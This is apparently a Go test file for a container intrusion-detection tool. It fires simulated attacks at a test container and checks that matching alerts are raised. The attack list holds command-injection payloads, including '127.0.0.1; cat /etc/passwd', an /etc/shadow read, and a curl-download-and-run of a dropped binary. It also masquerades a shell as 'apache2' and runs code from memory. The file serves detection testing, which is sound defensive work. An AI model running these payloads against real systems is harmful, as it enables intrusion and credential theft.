package main

import (
	"context"
	"fmt"
	"net/http"
	"slices"
	"strings"

	"bobwatch/internal/alert"
	"bobwatch/internal/testenv"
	"bobwatch/test/workloads"
)

// attack is something the application would never do by itself.
type attack struct {
	name  string
	do    func(ctx context.Context, k *testenv.Container) error
	named func(a *alert.Alert) bool // whether an alert is about it
}

// toolAddress is where the attacker's tool is downloaded from, in the
// container's own network.
const toolAddress = "127.0.0.1:8099"

// attacks are made in this order; the dropped binary serves those after it.
var attacks = []attack{
	{
		name:  "command injection that reads /etc/passwd",
		do:    inject("cat /etc/passwd", "root:x:0:0"),
		named: executed("/cat", "/etc/passwd"),
	},
	{
		name:  "command injection that tries to read /etc/shadow",
		do:    inject("cat /etc/shadow 2>&1", "Permission denied"),
		named: func(a *alert.Alert) bool { return a.Deviation.Open != nil && a.Deviation.Open.Path == "/etc/shadow" },
	},
	{
		name: "ls / by exec from outside",
		do: func(ctx context.Context, k *testenv.Container) error {
			_, err := k.Exec(ctx, "ls", "/")
			return err
		},
		named: func(a *alert.Alert) bool {
			return a.Origin.Kind == alert.OriginOutside && executed("/ls", "/")(a)
		},
	},
	{
		name:  "a binary dropped in /tmp and run",
		do:    inject("curl -so /tmp/tool http://"+toolAddress+"/ && chmod +x /tmp/tool && /tmp/tool hello", "done:"),
		named: executed("/tmp/tool", "hello"),
	},
	{
		name:  "a program executed from memory",
		do:    inject("/tmp/tool memfd", "done:"),
		named: func(a *alert.Alert) bool { return a.Deviation.Exec != nil && a.Deviation.Exec.File.Memfd },
	},
	{
		name:  "a shell under another name",
		do:    inject("ln -sf /bin/sh /tmp/apache2; /tmp/apache2 -c 'echo owned'", "owned"),
		named: executed("sh", "/tmp/apache2"),
	},
	{name: "unshare", do: inject("unshare --user id", "uid="), named: called("unshare")},
	{name: "ptrace", do: inject("/tmp/tool ptrace", "done:"), named: called("ptrace")},
	{
		name:  "a file opened by io_uring",
		do:    inject("/tmp/tool uring /usr/lib/os-release", "done:"),
		named: func(a *alert.Alert) bool { return a.Deviation.Open != nil && a.Deviation.Open.IOUring },
	},
	{
		name:  "a 32-bit system call",
		do:    inject("/tmp/tool compat", "done:"),
		named: func(a *alert.Alert) bool { return a.Deviation.Syscall != nil && a.Deviation.Syscall.ABI == "386" },
	},
}

// inject lets the ping page run a command, and wants to see its output.
func inject(command, want string) func(context.Context, *testenv.Container) error {
	return func(ctx context.Context, k *testenv.Container) error {
		out, err := workloads.Ping(ctx, k, "127.0.0.1; "+command)
		if err == nil && !strings.Contains(out, want) {
			err = fmt.Errorf("output %q, want %q in it", out, want)
		}
		return err
	}
}

// executed returns a match for the execution of a file whose path ends in
// program, with arg among its arguments.
func executed(program, arg string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool {
		e := a.Deviation.Exec
		return e != nil && strings.HasSuffix(e.Path, program) && slices.Contains(e.Args, arg)
	}
}

// called returns a match for a system call.
func called(name string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool { return a.Deviation.Syscall != nil && a.Deviation.Syscall.Name == name }
}

// serveTool serves the attacker's tool in k's network until stop is called.
func serveTool(ctx context.Context, k *testenv.Container) (stop func(), err error) {
	tool, err := workloads.Build(ctx, "./test/attacks")
	if err != nil {
		return nil, err
	}
	listener, err := k.Listen(toolAddress)
	if err != nil {
		return nil, err
	}
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write(tool) // curl tells, and the attack then fails
	})}
	go func() { _ = server.Serve(listener) }() // ends with Close
	return func() { server.Close() }, nil
}
